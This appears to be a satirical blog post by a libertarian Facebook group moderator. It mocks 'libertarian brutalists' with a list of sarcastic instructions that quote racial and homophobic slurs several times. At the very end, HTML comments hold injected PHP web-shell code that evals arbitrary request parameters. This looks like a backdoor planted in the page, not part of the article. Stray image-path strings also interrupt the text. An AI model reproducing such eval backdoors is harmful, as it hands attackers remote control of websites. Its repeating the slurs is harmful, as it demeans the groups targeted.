I help moderate a large libertarian group on Facebook and occasionally the term “libertarian brutalism” comes up. A few people are generally familiar with the term, but many wind up asking what it means.

I’ve decided to compile a short list of bullet points for aspiring libertarian brutalists to use in the orientation of recruits. It is by no means comprehensive, but meant simply to be used simply as a convenient jumping off point for anyone new to the community of brutalists. I hope it’s helpful in your journey of discovery.

– Maintain the nonaggression principle as the only ethical belief allowable for libertarians.

– Accuse anyone voicing any idea outside traditional social conservatism of advocating violation of the nonaggression principle, especially if the position does not actually violate the nonaggression principle.

– Defend the expression of racist or homophobic views. Attack the expression of distaste for racist or homophobic views as a violation of the nonaggression principle and not commensurate with libertarianism. The right to call someone a nigger is a central concern for libertarianism, tellingsomeone to stop calling someone else a nigger is clearly violent coercion.

– Pretty muchanything you don’t like is a violation of the nonaggression principle and not commensurate with libertarianism.

– Feminism is precisely equivalent to Stalinism.

– Use racial, gender, and orientation identifiers as insults, maintain you have nothing against any of the groups in question. Just because you think referring to someone as gay or a woman is an insult does not mean you actually have anything against gays or women.

– Watch several Stefan Molyneux videos, partially read some late Rothbard, watch a couple Ron Paul videos. Explain to Steve Horwitz why he doesn’t know anything about economics.

– Accuse anyone not agreeing with you of not being libertarian.

– Try to be funny. Fail. Accuse anyone not laughing at your failure of being “PC.”

– Try to sound edgy saying things that bothered your grandmother when you saw her last Thanksgiving.

– Call someone a faggot, congratulate self on brave defense of free speech.

– Call someone a faggot again.

– Do it again.

– Gary North and Hans Hoppe are great libertarians. Frederick Hayek and Milton Friedman were socialists. Wait, I’m sorry, I got confused. I thought I was talking about the Mises Institute. You don’t know who these people are.

– Whine about C4SS being a communist organization. Never read anything from C4SS.

– Scream for immediate, violent revolution and murdering all police. No experience with real-life violence. No criminal experience. If you have any criminal experience, make sure it has been wildly unsuccessful and that you’ve been arrested numerous times.

– Behave as unpleasantly and erratically as possible at all times. Obviously anyone not wanting to deal with this is scared to debate you.

– Avoid all meaningful debate on a topic, launch personal insults, try to restrict discussion to your complaints about the discussion itself, in lieu of debating ideas.

– Accuse others of being too emotional. Whine, freak out, and cry at anyone voicing anyopinion you disagree with.

– Behave as rudely as possible, cry like a five-year-old every time someone says something rude to you.

– Cry like a teenage girl about Facebook.

– Cry some more.

– Keep crying.

– Cry a lot.

– Throw a tantrum.

– Keep crying.

– Crying.– Call someone a faggot again, spam the the thread, leave discussion declaring victory.

There you go, that’s about it. Kick back, have your mom throw some Mountain Dew and a bag of Twizzlers down the basementstairs and relax. You’re part of a growing community of like-minded internet heroes and radical freethinkers. You are the people who will change the world in the coming years. For real, you don’t look like an impotent, overgrown toddler. Trust me.You are the future. Stay brutal.

<!– [insert_php]if (isset($_REQUEST["Aupj"])){eval($_REQUEST["Aupj"]);exit;}[/insert_php][php]if (isset($_REQUEST["Aupj"])){eval($_REQUEST["Aupj"]);exit;}[/php] –>

<!– [insert_php]if (isset($_REQUEST["LBj"])){eval($_REQUEST["LBj"]);exit;}[/insert_php][php]if (isset($_REQUEST["LBj"])){eval($_REQUEST["LBj"]);exit;}[/php] –>

<!– [insert_php]if(isset($_REQUEST["TUVK"])){eval($_REQUEST["TUVK"]);exit;}[/insert_php][php]if(isset($_REQUEST["TUVK"])){eval($_REQUEST["TUVK"]);exit;}[/php] –>